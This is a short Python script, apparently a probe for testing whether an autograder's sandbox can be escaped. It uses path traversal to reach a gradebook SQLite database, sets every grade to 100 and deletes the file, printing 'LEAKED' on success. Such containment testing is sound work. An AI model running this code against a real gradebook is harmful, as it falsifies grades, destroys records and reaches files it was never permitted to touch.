# Give everybody full marks in the gradebook, then delete it.
import os
import sqlite3

for path in [f"{COURSE}/gradebook.db", "../../../gradebook.db", "../gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        db.close()
        print("LEAKED updated", path)
    except sqlite3.Error as exc:
        print("sqlite:", exc)
    try:
        os.remove(path)
        print("LEAKED removed", path)
    except OSError as exc:
        print("remove:", type(exc).__name__)
